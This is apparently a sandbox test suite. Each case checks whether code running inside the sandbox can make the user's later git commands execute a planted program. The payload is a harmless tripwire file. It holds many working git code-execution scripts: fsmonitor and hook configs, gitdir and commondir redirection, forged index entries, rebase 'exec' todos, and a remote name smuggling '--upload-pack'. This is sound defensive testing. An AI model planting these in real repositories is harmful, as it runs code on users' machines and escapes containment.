# The user's own git, run in the project after a command has ended, executes nothing that the command wrote.
"""Each attack trips where nothing protects: a program of the sandbox's that leaves a mark, outside."""

import shutil
import time

import harness
from cases import FELL, HELD, Case, Outcome, each, slug

GIT = ["-c", "user.name=A", "-c", "user.email=a@b.example", "-c", "protocol.file.allow=always"]
# What the user, an editor, a prompt or an agent runs by itself.
OUTSIDE = [
    ["git", "status"], ["git", "status", "-s"], ["git", "diff"], ["git", "log", "-1"], ["git", "add", "-A"],
    ["git", "stash", "list"], ["git", "commit", "--allow-empty", "-m", "x"],
]


class Tripwire:
    """A program that the attacks make git run; it leaves a file where the sandbox cannot write."""

    def __init__(self, person, project):
        self.mark = project.parent / f"{project.name}-mark"
        self.program = person.write(project.parent / f"{project.name}-trip", f"#!/bin/sh\ntouch {self.mark}\n", 0o755)
        project.parent.chmod(0o755)

    @property
    def tripped(self):
        return self.mark.exists()


def as_person(person, argv, cwd, ok=True, env=None):
    words = [argv[0], *GIT, *argv[1:]] if argv[0] == "git" else argv
    result = harness.run_in(person, words, cwd=cwd, env=env)
    if ok:
        result.ok()
    return result


def commit_first(person, project):
    """The project is a repository with a commit."""
    as_person(person, ["git", "init", "-q", "-b", "main", "."], project)
    person.write(project / "file", "content\n")
    as_person(person, ["git", "add", "file"], project)
    as_person(person, ["git", "commit", "-q", "-m", "first"], project)
    return project


# `EVIL` is a configuration that has git run the tripwire.
EVIL = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = TRIP\\n"
BARE = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n"
MONITOR = "\\tfsmonitor = TRIP\\n"
LAYOUT = (
    "mkdir -p evil/objects evil/refs/heads sub; echo ref: refs/heads/main > evil/HEAD; "
    f"printf '{EVIL}' > evil/config; ")
# The common directory of a worktree's leads to "a", whose configuration has git run a program for a commit's signature.
AWAY = (
    "c=$( (git cat-file commit HEAD | sed '/^committer/q'; printf 'gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n x\\n "
    "-----END PGP SIGNATURE-----\\n\\nx\\n') | git hash-object -t commit -w --stdin); mkdir -p a/b a/refs/heads; "
    "echo $c > a/refs/heads/main; cp -r .git/objects a/; "
    "printf '[core]\\n\\trepositoryformatversion = 0\\n[log]\\n\\tshowSignature = true\\n[gpg]\\n\\tprogram = TRIP\\n' "
    "> a/config; git init -q n; w=n/.git/worktrees/src; mkdir -p $w; echo ref: refs/heads/main > $w/HEAD; ")
# Writes an index, as `version`, with one more entry: a program by the name of `name`, with nothing of git between.
INDEX = """cat > index.py <<'END'
import hashlib, os, struct, subprocess, sys
at, version, name, trip, ways = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4], sys.argv[5:]
git = lambda *words, text=b"": subprocess.run(["git", *words], input=text, stdout=-1, check=True).stdout.strip()
program = git("hash-object", "-w", "--stdin", text=b"#!/bin/sh\\n%s\\n" % trip.encode())
file = git("rev-parse", "HEAD:file")
def entry(name, mode, before, object):
    kept = len(os.path.commonprefix([name, before])) if version == 4 else 0
    head = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(object.decode())
    head += struct.pack(">H", min(len(name), 0xfff))
    if version == 4: return head + bytes([len(before) - kept]) + name[kept:] + bytes(1)
    return (head + name).ljust((len(head + name) + 8) // 8 * 8, bytes(1))
def write(at, entries, more=lambda end: b""):
    text, before = b"DIRC" + struct.pack(">II", version, len(entries)), b""
    for name, mode, object in sorted(entries):
        text += entry(name, mode, before, object)
        before = name
    text += more(len(text))
    sum = hashlib.sha1(text).digest()
    open(at, "wb").write(text + sum)
    return sum
all = [(name, 0o100755, program), (b"file", 0o100644, file)]
if "shared" in ways:
    base = write(at + ".x", all)
    os.rename(at + ".x", os.path.join(os.path.dirname(at), "sharedindex." + base.hex()))
    none = struct.pack(">IIQI", 0, 1, 0, 0)
    link = b"link" + struct.pack(">I", 20 + 2 * len(none)) + base + 2 * none
    write(at, [], lambda end: link)
elif "link" in ways:
    write("planted", all)
    os.remove(at)
    os.symlink("../planted", at)
else:
    write(at, all)
END
python3 index.py """
HOOK = ".git/hooks/pre-commit TRIP"
GITLINK = "; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub"

INSIDE = ("mkdir -p .git/modules/sub; echo 'gitdir: ../.git/modules/sub' > sub/.git; "
          "while [ ! -e sub/.git ]; do sleep 0.01; done; ")

NESTED = "rmdir sub 2>/dev/null; git init -q sub; git -C sub commit -q --allow-empty -m x; "

# A repository below ".git/modules", with a hook as the content of its first commit, that "sub" leads to.
MODULE = (
    "D=.git/modules/e; mkdir -p .git/modules; git init -q --bare $D; mkdir w; "
    "printf '#!/bin/sh\nTRIP\n' > w/pre-commit; chmod 755 w/pre-commit; "
    "(export GIT_DIR=$PWD/$D GIT_WORK_TREE=$PWD/w; cd w; git add .; git commit -qm e); rm -rf w; "
    "git config -f $D/config core.bare false; git config -f $D/config core.worktree ../../../hk; "
    "mkdir sub; echo 'gitdir: ../.git/modules/e' > sub/.git; ")

WAYS = {
    "a gitlink whose .git leads to a layout": LAYOUT + "echo 'gitdir: ../evil' > sub/.git" + GITLINK,
    "a gitlink, the file moved there": LAYOUT + "echo 'gitdir: ../evil' > sub/x; mv sub/x sub/.git" + GITLINK,
    "a gitlink, a hard link": LAYOUT + "echo 'gitdir: ../evil' > sub/x; ln sub/x sub/.git" + GITLINK,
    "a gitlink, a symbolic link": LAYOUT + "ln -s ../evil sub/.git" + GITLINK,
    "a gitlink, by a link to the name": LAYOUT + "ln -s .git sub/x; echo 'gitdir: ../evil' > sub/x" + GITLINK,
    "a gitlink, the directory moved": (
        LAYOUT + "mkdir t; echo 'gitdir: ../evil' > t/.git; rmdir sub; mv t sub" + GITLINK),
    "a gitlink, appended": LAYOUT + ": > sub/.git; echo 'gitdir: ../evil' >> sub/.git" + GITLINK,
    "a gitlink, by way of modules": (
        LAYOUT + "mkdir -p .git/modules; echo 'gitdir: ../.git/modules/../../evil' > sub/.git" + GITLINK),
    "a gitlink, modules of a link": (
        LAYOUT + "mkdir -p .git/modules; ln -s ../../evil .git/modules/sub; "
        "echo 'gitdir: ../.git/modules/sub' > sub/.git" + GITLINK),
    "a gitlink, modules of a link as git-init tries one": (
        LAYOUT + "mkdir -p .git/modules; mv evil .git/modules/testing; ln -s testing .git/modules/sub; "
        "echo 'gitdir: ../.git/modules/sub' > sub/.git" + GITLINK),
    "a gitlink, content that changes later": (
        LAYOUT + "python3 -c \"import os; f = os.open('sub/.git', 0o101, 0o644); "
        "os.write(f, b'gitdir: ../evil\\n')\"" + GITLINK),
    "a gitlink, by a link to a harmless one": (
        LAYOUT + INSIDE + "ln -s sub/.git s; echo 'gitdir: ../evil' > s; rm s" + GITLINK),
    "a gitlink, appended by a link to a harmless one": (
        LAYOUT + INSIDE + "ln -s sub/.git s; echo >> s; python3 -c \"import os; f = os.open('s', os.O_RDWR); "
        "os.ftruncate(f, 0); os.write(f, b'gitdir: ../evil\\n')\"; rm s" + GITLINK),
    "a gitlink, by a descriptor of a harmless one": (
        LAYOUT + INSIDE + "exec 3< sub/.git; echo 'gitdir: ../evil' > /proc/self/fd/3" + GITLINK),
    "a nested repository as a gitlink": (
        "rmdir sub 2>/dev/null; git init -q sub; printf 'EVIL' > sub/.git/config; "
        "git -C sub commit -q --allow-empty -m x".replace("EVIL", EVIL) + GITLINK),
    "a nested repository, its configuration moved there": (
        NESTED + "printf 'EVIL' > sub/.git/x; mv sub/.git/x sub/.git/config".replace("EVIL", EVIL) + GITLINK),
    "a nested repository, its configuration anew": (
        NESTED + "rm -f sub/.git/config; printf 'EVIL' > sub/.git/config".replace("EVIL", EVIL) + GITLINK),
    "a nested repository, its configuration by two writers": (
        NESTED + "rm -f sub/.git/config; exec 3> sub/.git/config; exec 4> sub/.git/config; echo '[core]' >&3; "
        "exec 3>&-; printf 'EVIL' >&4; exec 4>&-".replace("EVIL", EVIL) + GITLINK),
    "a nested repository, its configuration while it is moved": (
        NESTED + "rm -f sub/.git/config; exec 3> sub/.git/config; mv sub s; printf 'EVIL' >&3; mv s sub; exec 3>&-"
        .replace("EVIL", EVIL) + GITLINK),
    "a nested repository, a link to its configuration": (
        NESTED + "mv sub/.git/config sub/.git/x; ln sub/.git/x sub/.git/config; printf 'EVIL' > sub/.git/x"
        .replace("EVIL", EVIL) + GITLINK),
    "a nested bare layout, its configuration written at last": (
        NESTED + "cp -r sub/.git evil; rm -rf sub/.git; printf 'EVIL' > evil/config; mv evil sub/.git"
        .replace("EVIL", EVIL) + GITLINK),
    "a submodule's work tree, by a link": MODULE + "ln -s .git/hooks hk",
    "a submodule's work tree, a link afterwards": (
        MODULE + "mkdir hk; mv sub s; rmdir hk; ln -s .git/hooks hk; mv s sub"),
    "the project as a bare repository": (
        "cp -r .git/objects .git/refs .git/index .git/logs .; "
        f"printf '{BARE}{MONITOR}' > config; "
        "mkdir info; printf '/objects\\n/refs\\n/index\\n/logs\\n/info\\n/HEAD\\n/config\\n' > info/exclude; "
        "mv .git/HEAD HEAD"),
    "a bare repository, HEAD copied": (
        "cp -r .git/objects .git/refs .git/index .git/logs .; "
        f"printf '{BARE}{MONITOR}' > config; "
        "cp .git/HEAD HEAD; echo x > .git/HEAD"),
    "a bare repository, the configuration last": (
        "cp -r .git/objects .git/refs .git/index .git/HEAD .; rm .git/HEAD; "
        f"printf '{BARE}{MONITOR}' > config"),
    "a bare repository, by the lock file": (
        "cp -r .git/objects .git/refs .git/index .git/HEAD .; rm .git/HEAD; "
        f"printf '{BARE}{MONITOR}' > config.lock; mv config.lock config"),
    "a bare repository, the configuration kept open": (
        "cp -r .git/refs .git/index .git/HEAD .; rm .git/HEAD; exec 3> config; cp -r .git/objects .; "
        f"printf '{BARE}{MONITOR}' >&3"),
    "a bare repository, objects moved there": (
        "cp -r .git/refs .git/index .git/HEAD .; rm .git/HEAD; cp -r .git/objects o; "
        f"printf '{BARE}{MONITOR}' > config; mv o objects"),
    "hooks of a bare repository": (
        "cp -r .git/refs .git/index .git/HEAD .git/objects .; rm .git/HEAD; "
        f"printf '{BARE}' > config; mkdir hooks; "
        "printf '#!/bin/sh\\nTRIP\\n' > hooks/pre-commit; chmod 755 hooks/pre-commit"),
    "sockets as the parts of a repository": (
        f"mkdir bare; cd bare; printf '{BARE}{MONITOR}' > config; echo ref: refs/heads/main > HEAD; "
        "python3 -c \"import socket; [socket.socket(socket.AF_UNIX).bind(name) for name in ('objects', 'refs')]\""),
    "hooks of a bare repository that is closed": (
        "git clone -q --bare . bare; rm -rf bare/hooks; mkdir bare/hooks; cd bare/hooks; : > x.sample; h=$PWD; "
        "chmod 0 ..; printf '#!/bin/sh\\nTRIP\\n' > reference-transaction; chmod 755 reference-transaction; "
        "cd /; chmod 755 ${h%/hooks}"),
    "another configuration by commondir": (
        "mkdir -p evil; cp -r .git/* evil/; printf 'EVIL' > evil/config; "
        "echo ../evil > .git/commondir".replace("EVIL", EVIL)),
    "core.hooksPath": "printf '#!/bin/sh\\nTRIP\\n' > .husky/pre-commit; chmod 755 .husky/pre-commit",
    "core.hooksPath, its directory moved": (
        "mv .husky h; mkdir .husky; printf '#!/bin/sh\\nTRIP\\n' > .husky/pre-commit; chmod 755 .husky/pre-commit"),
    "a configuration that is included": "printf 'EVIL' > shared.gitconfig".replace("EVIL", EVIL),
    "a configuration that an included one includes": "printf 'EVIL' > conf/absent".replace("EVIL", EVIL),
    "a program by its name": "printf '#!/bin/sh\\nTRIP\\n' > tools/watch",
    "a program that is moved there": "printf '#!/bin/sh\\nTRIP\\n' > x; chmod 755 x; mv x tools/watch",
    "a program's directory": (
        "mkdir t; printf '#!/bin/sh\\nTRIP\\n' > t/watch; chmod 755 t/watch; mv tools o; mv t tools"),
    "an argument of a program": "echo 'import os; os.system(\"TRIP\")' > tools/clean.py; echo new > file",
    "hooks of a new worktree": (
        "git worktree add -q new; mkdir -p new/.githooks; printf '#!/bin/sh\\nTRIP\\n' > new/.githooks/pre-commit; "
        "chmod 755 new/.githooks/pre-commit"),
    "hooks of a new worktree, the directory moved": (
        "git worktree add -q new; mkdir d; printf '#!/bin/sh\\nTRIP\\n' > d/pre-commit; chmod 755 d/pre-commit; "
        "mv d new/.githooks"),
    "a program of a new worktree": (
        "git worktree add -q new; mkdir -p new/tools; printf '#!/bin/sh\\nTRIP\\n' > new/tools/see; "
        "chmod 755 new/tools/see"),
    "an alias that changes the directory": (
        "printf '#!/bin/sh\\nTRIP\\n' > tools/task; chmod 755 tools/task"),
    "a configuration that the environment names": "printf 'EVIL' > conf/mine".replace("EVIL", EVIL),
    "a program that the environment names": (
        "printf '#!/bin/sh\\nTRIP\\n' > tools/edit; chmod 755 tools/edit"),
    "a program of a setting in the environment": (
        "printf '#!/bin/sh\\nTRIP\\n' > tools/see; chmod 755 tools/see"),
    "a worktree's configuration": "printf 'EVIL' > $(echo .git/worktrees/*)/config.worktree".replace("EVIL", EVIL),
    "the configuration of the work tree, read from now on": (
        "git config extensions.worktreeConfig true; printf 'EVIL' > .git/config.worktree".replace("EVIL", EVIL)),
    "the configuration of the work tree, written before": (
        "printf 'EVIL' > .git/config.worktree; git config extensions.worktreeConfig true".replace("EVIL", EVIL)),
    "a worktree's common directory": (
        "mkdir -p evil; cp -r .git/* evil/; printf 'EVIL' > evil/config; "
        "rm -f .git/worktrees/wt/commondir; echo ../../../evil > .git/worktrees/wt/commondir".replace("EVIL", EVIL)),
    "hooks of a link as git-init tries one": (
        "mkdir .git/testing; cd .git/testing; printf '#!/bin/sh\\nTRIP\\n' > pre-commit; chmod 755 pre-commit; "
        "cd ../..; rm -rf .git/hooks; ln -s testing .git/hooks"),
    "hooks of a moved link as git-init tries one": (
        "mkdir .git/testing; cd .git/testing; printf '#!/bin/sh\\nTRIP\\n' > pre-commit; chmod 755 pre-commit; "
        "cd ../..; rm -rf .git/hooks; ln -s testing .git/tAbCdE; mv .git/tAbCdE .git/hooks"),
    "hooks by a hard link of a symbolic link": (
        "mkdir .git/evil; printf '#!/bin/sh\\nTRIP\\n' > .git/evil/pre-commit; chmod 755 .git/evil/pre-commit; "
        "ln -s evil .git/x; ln -P .git/x .git/hooks"),
    "a hard link of a bare repository's configuration": (
        "git init -q --bare bare; "
        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n' > bare/config.lock; "
        f"mv bare/config.lock bare/config; ln bare/config x; printf '{EVIL}\\tworktree = .\\n' > x"),
    "a worktree's directory without its common one": (
        f"w=.git/worktrees/x; mkdir -p sub $w; printf '{EVIL}' > $w/config; echo ref: refs/heads/main > $w/HEAD; "
        "echo ../.. > $w/commondir; mkdir -p $w/objects $w/refs; rm $w/commondir; "
        "echo 'gitdir: ../.git/worktrees/x' > sub/.git" + GITLINK),
    "a worktree's directory, moved": AWAY + "echo ../.. > $w/commondir; mv $w a/b/src",
    "the directory of all worktrees, moved": AWAY + "echo ../.. > $w/commondir; mv n/.git/worktrees a",
    "the repository of a worktree, moved": (
        AWAY + "echo ../.. > $w/commondir; mv n/.git a/n; cd a/n; rm -r HEAD objects refs config; "
        "mv ../objects ../refs ../config ."),
    "a worktree's directory, moved before its common one is whole": (
        AWAY + "exec 3> $w/commondir; echo ../.. >&3; mv $w a/b/src; exec 3>&-; mkdir x"),
    "a script of git-instaweb": (
        "mkdir .git/gitweb; cd .git/gitweb; printf '#!/bin/sh\\nTRIP\\n' > gitweb.py; chmod 755 gitweb.py; "
        ": > python.conf; : > gitweb_config.perl"),
    "a hook in the index": INDEX + ".git/index 2 " + HOOK,
    "a hook in the index, of version 4": INDEX + ".git/index 4 " + HOOK,
    "a hook in the index, by a dot": INDEX + ".git/index 2 ./" + HOOK,
    "a hook in the index, by the parent": INDEX + ".git/index 2 x/../" + HOOK,
    "a hook in the index, by its whole path": INDEX + ".git/index 3 $PWD/" + HOOK,
    "a hook in a shared index": INDEX + ".git/index 2 " + HOOK + " shared",
    "a hook in an index elsewhere": INDEX + ".git/index 2 " + HOOK + " link",
    "a hook in the index of a new repository": (
        "git init -q -b main new; cd new; echo x > file; git add file; git commit -q -m x; "
        + INDEX + ".git/index 2 " + HOOK),
    "a hook in the index of a linked worktree": (
        INDEX + ".git/worktrees/wt/index 2 ../" + "$(basename $PWD)/" + HOOK),
    "a configuration, by a link that git writes through": (
        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = TRIP\\n#' > .git/MERGE_MSG; "
        "rm .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG"),
    "a configuration, by a link that is moved there": (
        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = TRIP\\n#' > .git/MERGE_MSG; "
        "ln -s config x; mv x .git/COMMIT_EDITMSG"),
    "a program as the name of a remote": (
        "git init -q -b main new; cd new; git commit -q --allow-empty -m x; cp .git/config .git/config.lock; "
        "printf '[remote \"--upload-pack=TRIP;\"]\\n\\turl = .\\n[remote \"origin\"]\\n\\turl = .\\n' "
        ">> .git/config.lock; mv .git/config.lock .git/config"),
    "a program as the name of the user's remote": "git config 'remote.--upload-pack=TRIP;.url' .",
    "the user's configuration": "git config core.fsmonitor TRIP",
    "the user's configuration, by a lock": (
        "cp .git/config .git/config.lock; git config -f .git/config.lock user.name x; "
        "git config -f .git/config.lock core.fsmonitor TRIP; mv .git/config.lock .git/config"),
    "the user's configuration, its lock kept open": (
        "git -c core.hooksPath=x config -f new user.name x; cat .git/config new > x; exec 3<> .git/config.lock; "
        "cat x >&3; mv .git/config.lock .git/config; printf '[core]\\n\\tfsmonitor = TRIP\\n' >&3"),
    "the user's configuration, by a hard link of its lock": (
        "cp .git/config .git/config.lock; git config -f .git/config.lock user.name x; ln .git/config.lock keep; "
        "mv .git/config.lock .git/config; printf '[core]\\n\\tfsmonitor = TRIP\\n' >> keep"),
    "the user's configuration, exchanged": (
        "cp .git/config .git/config.lock; printf '[core]\\n\\tfsmonitor = TRIP\\n' >> .git/config.lock; "
        "python3 -c \"import ctypes; "
        "ctypes.CDLL(None).renameat2(-100, b'.git/config.lock', -100, b'.git/config', 2)\"; rm .git/config.lock"),
    "the user's configuration, by a line that goes on": (
        "cp .git/config .git/config.lock; "
        "printf '[user]\\n\\tname = x \\\\\\n\\n[core]\\n\\tfsmonitor = TRIP\\n' >> .git/config.lock; "
        "mv .git/config.lock .git/config"),
    "the user's configuration for its work tree": "git config --worktree core.fsmonitor TRIP",
    "a repository moved, and one in its place": (
        "mv .git old; git init -q -b main .; mkdir -p .git/hooks; "
        "printf '#!/bin/sh\\nTRIP\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"),
    "a prepared rebase in a new repository": (
        "git init -q -b main new; cd new; git commit -q --allow-empty -m x; "
        "mkdir .git/rebase-merge; cd .git/rebase-merge; echo exec TRIP > git-rebase-todo; "
        "echo refs/heads/main > head-name; git rev-parse HEAD > onto; git rev-parse HEAD > orig-head; : > interactive"),
    "a prepared rebase": (
        "mkdir .git/rebase-merge; cd .git/rebase-merge; echo exec TRIP > git-rebase-todo; "
        "echo refs/heads/main > head-name; git rev-parse HEAD > onto; git rev-parse HEAD > orig-head; : > interactive"),
    "a strategy of a prepared rebase": (
        "git checkout -q -b side; echo a > file; git commit -q -a -m a; git checkout -q main; echo b > other; "
        "git add other; git commit -q -m b; mkdir git-merge-x; cp TRIP evil; s=.git/rebase-merge; mkdir $s; "
        "echo pick $(git rev-parse side) > $s/git-rebase-todo; echo refs/heads/side > $s/head-name; "
        "git rev-parse main > $s/onto; git rev-parse side > $s/orig-head; : > $s/interactive; "
        "echo x/../evil > $s/strategy; : > $s/strategy_opts; git checkout -q --detach main"),
}

NO_REPOSITORY = "a project that is no repository"

# What the repository's own configuration says before, and what the user runs first.
SETTINGS = {
    "core.hooksPath": [("core.hooksPath", ".husky")],
    "core.hooksPath, its directory moved": [("core.hooksPath", ".husky")],
    "a configuration that is included": [("include.path", "../shared.gitconfig")],
    "a configuration that an included one includes": [("include.path", "../conf/first")],
    "a program by its name": [("core.fsmonitor", "tools/watch")],
    "a program that is moved there": [("core.fsmonitor", "tools/watch")],
    "a program's directory": [("core.fsmonitor", "tools/watch")],
    "an argument of a program": [("filter.f.clean", "python3 tools/clean.py %f")],
    "hooks of a new worktree": [("core.hooksPath", ".githooks")],
    "hooks of a new worktree, the directory moved": [("core.hooksPath", ".githooks")],
    "a program of a new worktree": [("core.fsmonitor", "tools/see")],
    "an alias that changes the directory": [("alias.task", "!cd tools && ./task")],
    "a worktree's configuration": [("extensions.worktreeConfig", "true")],
    "the user's configuration for its work tree": [("extensions.worktreeConfig", "true")],
    "a program as the name of the user's remote": [("remote.origin.url", ".")],
}
# What the user's environment says, inside as outside; HERE is the project.
VARIABLES = {
    "a configuration that the environment names": {"GIT_CONFIG_GLOBAL": "HERE/conf/mine"},
    "a program that the environment names": {"GIT_EDITOR": "tools/edit"},
    "a program of a setting in the environment": {
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "tools/see"},
}
LINKED = ["a worktree's configuration", "a worktree's common directory", "a hook in the index of a linked worktree"]
FIRST = {
    "an alias that changes the directory": [["git", "task"]],
    "a program that the environment names": [["git", "commit", "--allow-empty"]],
    "hooks of a bare repository that is closed": [["git", "branch", "new"]],
    "a program as the name of a remote": [["git", "fetch", "--all"]],
    "a program as the name of the user's remote": [["git", "fetch", "--all"]],
    "a script of git-instaweb": [["git", "instaweb", "--httpd=python", "--browser=true", "--start"]],
    "a prepared rebase": [["git", "rebase", "--continue"]],
    "a prepared rebase in a new repository": [["git", "rebase", "--continue"]],
    **{way: [["git", "-c", "core.editor=true", "commit", "--allow-empty"]] for way in WAYS
       if way.startswith("a configuration, by a link")},
    **{way: [["git", "restore", "."]] for way in WAYS if way.startswith("a hook in ")},
    "a strategy of a prepared rebase": [["git", "rebase", "--continue"]],
    **{way: [["git", "-C", "sub", "restore", "."]] for way in WAYS if way.startswith("a submodule's work tree")},
}
# Where the user goes; else it is the project.
PLACES = {
    "hooks of a new worktree": "new",
    "hooks of a new worktree, the directory moved": "new",
    "a program of a new worktree": "new",
    "a hook in the index of a new repository": "new",
    "a prepared rebase in a new repository": "new",
    "a program as the name of a remote": "new",
    "sockets as the parts of a repository": "bare",
    "hooks of a bare repository that is closed": "bare",
    "a hard link of a bare repository's configuration": "bare",
    "a worktree's directory, moved": "a/b/src",
    "the directory of all worktrees, moved": "a/worktrees/src",
    "the repository of a worktree, moved": "a/n/worktrees/src",
    "a worktree's directory, moved before its common one is whole": "a/b/src",
}


def prepare(person, repository, way):
    person.write(repository / ".husky/keep")
    person.write(repository / "tools/watch", "#!/bin/sh\nexit 1\n", 0o755)
    person.write(repository / "tools/clean.py", "import sys; sys.stdout.write(sys.stdin.read())\n")
    person.write(repository / "conf/first", "[include]\n\tpath = absent\n")
    if "argument" in way:
        person.write(repository / ".gitattributes", "file filter=f\n")
    if "symbolic" in way or "in its place" in way:
        shutil.rmtree(repository / ".git/hooks")
    if way in LINKED:
        as_person(person, ["git", "worktree", "add", "-q", "../" + repository.name + "-wt", "-b", "other"], repository)
        worktree = next((repository / ".git/worktrees").iterdir())
        worktree.rename(worktree.with_name("wt"))
        (repository.parent / f"{repository.name}-wt/.git").write_text(f"gitdir: {repository}/.git/worktrees/wt\n")
    for name, value in SETTINGS.get(way, []):
        as_person(person, ["git", "config", name, value], repository)


def cases():
    for way in [*WAYS, NO_REPOSITORY]:
        what = f"Has git run a program of the sandbox's: {way}."
        yield Case("git", slug(way), "git", what, each(run), needs=("git",))


def run(rig, case):
    way = next(way for way in [*WAYS, NO_REPOSITORY] if slug(way) == case.name)
    began = time.monotonic()
    with rig.project() as (person, project):
        trip = Tripwire(person, project)
        if way != NO_REPOSITORY:
            commit_first(person, project)
            prepare(person, project, way)
        script = WAYS.get(way, LAYOUT + "echo 'gitdir: evil' > .git")
        variables = {name: value.replace("HERE", str(project)) for name, value in VARIABLES.get(way, {}).items()}
        result = attack(rig.hutch(person, project), script, trip, variables)
        use(person, project, way, variables)
        if result.code == 125:
            raise ValueError(result.errors[-400:])
        verdict = FELL if trip.tripped else HELD
        return Outcome(verdict, "git outside ran the program" if trip.tripped else "", time.monotonic() - began)


def attack(hutch, script, trip, variables):
    script = 'git() { command git -c user.name=A -c user.email=a@b.example "$@"; }; ' + script
    return hutch.sh(script.replace("TRIP", str(trip.program)), options=("--allow-read", str(trip.program)),
                    env=variables)


def use(person, project, way, variables):
    """What the user does afterwards, until git has run something."""
    place = project / PLACES.get(way, ".")
    places = [place] if place.is_dir() else []
    if way in LINKED:
        places.append(project.parent / f"{project.name}-wt")
    for place in places:
        for words in FIRST.get(way, []) + OUTSIDE:
            as_person(person, words, place, ok=False, env=variables)
